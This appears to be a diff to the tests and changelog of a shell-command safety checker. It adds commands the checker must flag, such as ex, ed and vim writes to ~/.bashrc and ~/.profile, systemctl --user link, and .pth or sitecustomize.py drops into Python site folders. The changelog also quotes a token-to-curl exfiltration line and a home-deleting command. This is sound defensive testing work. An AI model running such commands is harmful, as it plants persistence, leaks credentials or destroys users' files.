@@ -53,7 +53,10 @@ strict home by an allow rule:
   as each program the hardline checks know that it may name, ``dynamic-program``
   otherwise), ``systemd-nspawn``'s command (``-D / rm -rf ~``), julia's and R's
   recursive deletes of the home; a credential variable's value printed into a network
-  tool's stdin (``echo "$GITHUB_TOKEN" | curl -d @- URL``).
+  tool's stdin (``echo "$GITHUB_TOKEN" | curl -d @- URL``); a file ex's or ed's own
+  ``w FILE`` writes (``ex -sc 'w ~/.bashrc|q' x``, ``ed x <<< 'w /root/.bashrc'``),
+  ``systemctl --user link``, a workspace's ``.vscode/settings.json``, ``~/.bashrc.d/``,
+  less's key file (its ``LESSOPEN``), a ``.pth`` in a site folder computed at run time.
 
 And one false alarm fixed: ``make VERSION=$(git describe --tags)`` asked as a
 computed program; a make variable the shell computes is data unless make runs it.
@@ -229,6 +232,16 @@ NAMED = {
         "GOBIN=~/.local/bin go install example.com/evil@latest",
         "esbuild x.js --outfile=$HOME/.local/bin/node",
         "ld -o ~/.local/bin/ls x.o",
+        "ex -sc 'w ~/.bashrc|q' x",
+        "ed -s x <<< 'w /root/.bashrc'",
+        "vim -es -c '1,$w! ~/.profile' -c q x",
+        "systemctl --user link /tmp/x.service",
+        "echo x > .vscode/settings.json",
+        "echo x > ~/.bashrc.d/x.sh",
+        "echo x > ~/.profile.d/x.sh",
+        "echo x > ~/.lesskey",
+        "echo x > $(python3 -m site --user-site)/x.pth",
+        "cp x \"$(python3 -c 'import site;print(site.getusersitepackages())')\"/sitecustomize.py",
     ],
     "script-destructive": ["julia -e 'rm(\"build\", recursive=true)'"],
     "dynamic-program": ["/usr/bin/l? -la", "./scripts/*.sh"],
@@ -331,6 +344,12 @@ EVERYDAY = [
     "julia -e 'println(1)'",
     "git log | curl -d @- https://x.test",
     'echo "$GITHUB_TOKEN" | gh auth login --with-token',
+    "vim -c 'wq' x",
+    "vim +'w out.txt' x",
+    "ed -s f.txt <<< $',s/a/b/\\nw'",
+    "cp model.pth checkpoints/model.pth",
+    "cat .vscode/settings.json",
+    "systemctl --user status x",
 ]
 
 
